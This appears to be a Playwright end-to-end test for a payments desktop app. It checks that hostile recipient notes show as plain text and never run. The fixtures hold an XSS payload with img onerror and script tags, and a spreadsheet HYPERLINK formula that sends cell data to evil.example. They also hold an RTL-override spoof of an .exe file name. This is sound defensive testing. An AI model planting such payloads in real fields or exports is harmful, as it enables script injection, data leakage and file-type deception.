/**
 * Hostile data in the window: notes from SecPaid with HTML, formula prefixes, an RTL override,
 * zero-width characters, emoji and a long text are shown as text — no element, no script, no
 * dialog comes of them — in the list, the detail panel and the search. (The CLI and the exports
 * are covered by test/integration/hostile-notes.test.ts.)
 */
import { expect, test } from '@playwright/test'
import { startSimulator, type RunningSimulator } from '../../src/main/simulator'
import { launchApp, type LaunchedApp } from './harness'
import { dataRows, freshDataDir, search, waitForRows } from './fixtures'

const NOTES: Record<string, string> = {
  html: '<img src=x onerror=alert(1)><script>alert(2)</script><b id=injected>bold</b>',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  rtl: 'invoice \u202Efdp.exe',
  zeroWidth: 'pay\u200Bment\u200C\u200D\u2060\uFEFF ok',
  emoji: 'Danke 🙏🏽 👨‍👩‍👧 🇩🇪 — grüße',
  // The simulator keeps notes up to 500 characters, like the API documents for recipient notes.
  long: 'Lang '.repeat(98) + 'Ende'
}

let sim: RunningSimulator
let app: LaunchedApp
let cleanup: () => void
const payIds = new Map<string, string>()

test.beforeEach(async () => {
  sim = await startSimulator({ seed: 5, rows: 100, rateLimitPerMinute: null })
  for (const [name, note] of Object.entries(NOTES)) {
    const row = sim.admin.addPayment({ amount: '12.50', recipient_note: note })
    payIds.set(name, String(row.pay_id))
  }
  const data = freshDataDir()
  cleanup = data.cleanup
  app = await launchApp({ env: 'custom', apiBase: sim.baseUrl, apiKey: sim.apiKey, dataDir: data.dir, locale: 'en' })
  console.log(`[e2e] backend: ${app.backend}`)
})

test.afterEach(async () => {
  await app.close()
  await sim.close()
  cleanup()
})

test('notes with HTML, formulas, RTL override, zero-width characters, emoji and long text stay inert and readable', async () => {
  const { page } = app
  const dialogs: string[] = []
  page.on('dialog', (d) => {
    dialogs.push(d.message())
    void d.dismiss()
  })
  await waitForRows(page)

  for (const [name, note] of Object.entries(NOTES)) {
    await search(page, payIds.get(name)!)
    await expect(dataRows(page)).toHaveCount(1)
    // The new result, not the previous search's row still shown (dimmed) while it loads.
    await expect(dataRows(page).first()).toContainText(payIds.get(name)!)
    await expect(page.getByRole('grid', { name: 'Transactions' })).toHaveAttribute('aria-busy', 'false')
    await dataRows(page).first().click()
    const detail = page.getByRole('complementary')
    await expect(detail).toContainText(payIds.get(name)!)
    // The whole note, character for character, as text.
    const shown = await detail.evaluate((el, text) => (el.textContent ?? '').includes(text), note)
    expect(shown, `${name}: the detail panel shows the note as text`).toBe(true)
  }

  // Nothing from the notes became markup or ran.
  await expect(page.locator('img[src="x"]')).toHaveCount(0)
  await expect(page.locator('#injected')).toHaveCount(0)
  expect(dialogs).toEqual([])
  // The HTML note is readable as written.
  await search(page, payIds.get('html')!)
  await expect(dataRows(page).first()).toContainText(payIds.get('html')!)
  await expect(page.getByRole('grid', { name: 'Transactions' })).toHaveAttribute('aria-busy', 'false')
  await dataRows(page).first().click()
  await expect(page.getByRole('complementary')).toContainText('<script>alert(2)</script>')
})
